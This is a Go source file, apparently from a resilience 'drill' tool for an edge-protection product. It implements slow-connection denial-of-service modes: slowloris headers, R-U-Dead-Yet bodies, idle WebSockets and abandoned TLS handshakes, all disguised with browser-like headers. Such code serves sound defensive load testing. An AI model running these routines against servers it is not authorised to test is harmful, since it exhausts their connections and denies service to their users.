package protocol

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/theriac-edge/theriac/drill/attack"
	"github.com/theriac-edge/theriac/drill/load"
	"github.com/theriac-edge/theriac/drill/record"
)

// dribble is how often a slow client sends something: often enough for timeouts of idle
// connections.
const dribble = 2 * time.Second

// slowHeaders sends a request whose header goes on and on (slowloris).
func (a *Attack) slowHeaders(ctx context.Context, n int) record.Outcome {
	return a.drip(ctx, n, func(w io.Writer) error {
		return a.begin(w, http.MethodGet, nil)
	}, "X-Please-Wait: 1\r\n")
}

// slowBodies sends a form whose body comes byte by byte (R-U-Dead-Yet).
func (a *Attack) slowBodies(ctx context.Context, n int) record.Outcome {
	return a.drip(ctx, n, func(w io.Writer) error {
		more := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, "Content-Length": {"100000"}}
		if err := a.begin(w, http.MethodPost, more); err != nil {
			return err
		}
		_, err := io.WriteString(w, "\r\n")
		return err
	}, "a")
}

// begin writes a request as browsers do, but not the empty line after its header.
func (a *Attack) begin(w io.Writer, method string, more http.Header) error {
	host := a.target.TLS.ServerName
	header := load.Navigation(host, load.Chrome)
	header.Del("Host")
	maps.Copy(header, more)
	var text strings.Builder
	fmt.Fprintf(&text, "%s %s HTTP/1.1\r\nHost: %s\r\n", method, a.wave.Paths[0], host)
	if err := header.Write(&text); err != nil {
		return err
	}
	_, err := io.WriteString(w, text.String())
	return err
}

// drip begins a request, and then sends a little of it from time to time.
func (a *Attack) drip(ctx context.Context, n int, begin func(io.Writer) error, little string) record.Outcome {
	conn, closed, err := a.secure(ctx, n, "http/1.1")
	if err != nil {
		return without(ctx)
	}
	defer closed()
	if begin(conn) != nil {
		return held(ctx)
	}
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_, _ = conn.Read(make([]byte, 1)) // an answer before its time ends the request as well
	}()
	every := time.NewTicker(dribble)
	defer every.Stop()
	for {
		select {
		case <-ended:
			return held(ctx)
		case <-every.C:
			if _, err := io.WriteString(conn, little); err != nil {
				return held(ctx)
			}
		}
	}
}

// held is the outcome of a connection that has ended: by the attack, or by the target.
func held(ctx context.Context) record.Outcome {
	if ctx.Err() != nil {
		return record.Served
	}
	return record.Forbidden
}

// last waits until the connection ends.
func last(ctx context.Context, conn net.Conn) record.Outcome {
	_, _ = io.Copy(io.Discard, conn)
	return held(ctx)
}

// webSocket opens a WebSocket and leaves it.
func (a *Attack) webSocket(ctx context.Context, n int) record.Outcome {
	conn, closed, err := a.secure(ctx, n, "http/1.1")
	if err != nil {
		return without(ctx)
	}
	defer closed()
	if err := conn.SetDeadline(time.Now().Add(load.AnswerTimeout)); err != nil {
		return held(ctx)
	}
	host := a.target.TLS.ServerName
	err = a.begin(conn, http.MethodGet, http.Header{
		"Connection": {"Upgrade"}, "Upgrade": {"websocket"}, "Origin": {"https://" + host},
		"Sec-Websocket-Version": {"13"}, "Sec-Websocket-Key": {"dGhlIHNhbXBsZSBub25jZQ=="},
		"Accept": {"*/*"}, "Sec-Fetch-Mode": {"websocket"}, "Sec-Fetch-Dest": {"empty"}, "Sec-Fetch-Site": {"same-origin"},
	})
	if err == nil {
		_, err = io.WriteString(conn, "\r\n")
	}
	if err != nil {
		return held(ctx)
	}
	answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return without(ctx)
	}
	defer answer.Body.Close()
	if answer.StatusCode != http.StatusSwitchingProtocols {
		return attack.OutcomeOf(answer.StatusCode, answer.Header)
	}
	if err := conn.SetDeadline(time.Time{}); err != nil {
		return held(ctx)
	}
	return last(ctx, conn)
}

// handshake begins a TLS handshake and leaves it, or completes it and asks for nothing.
func (a *Attack) handshake(ctx context.Context, n int) record.Outcome {
	if n%2 == 0 {
		conn, closed, err := a.secure(ctx, n, "http/1.1")
		if err != nil {
			return without(ctx)
		}
		defer closed()
		return last(ctx, conn)
	}
	conn, closed, err := a.raw(ctx, n)
	if err != nil {
		return without(ctx)
	}
	defer closed()
	if _, err := conn.Write(a.hello); err != nil {
		return held(ctx)
	}
	return last(ctx, conn)
}

// Hello is the first half of a ClientHello, as crypto/tls sends it.
func Hello(host string) []byte {
	ours, theirs := net.Pipe()
	defer theirs.Close()
	go func() {
		defer ours.Close()
		_ = tls.Client(ours, &tls.Config{ServerName: host}).Handshake() // ends with the pipe
	}()
	sent := make([]byte, 4096)
	n, _ := theirs.Read(sent)
	return sent[:n/2]
}
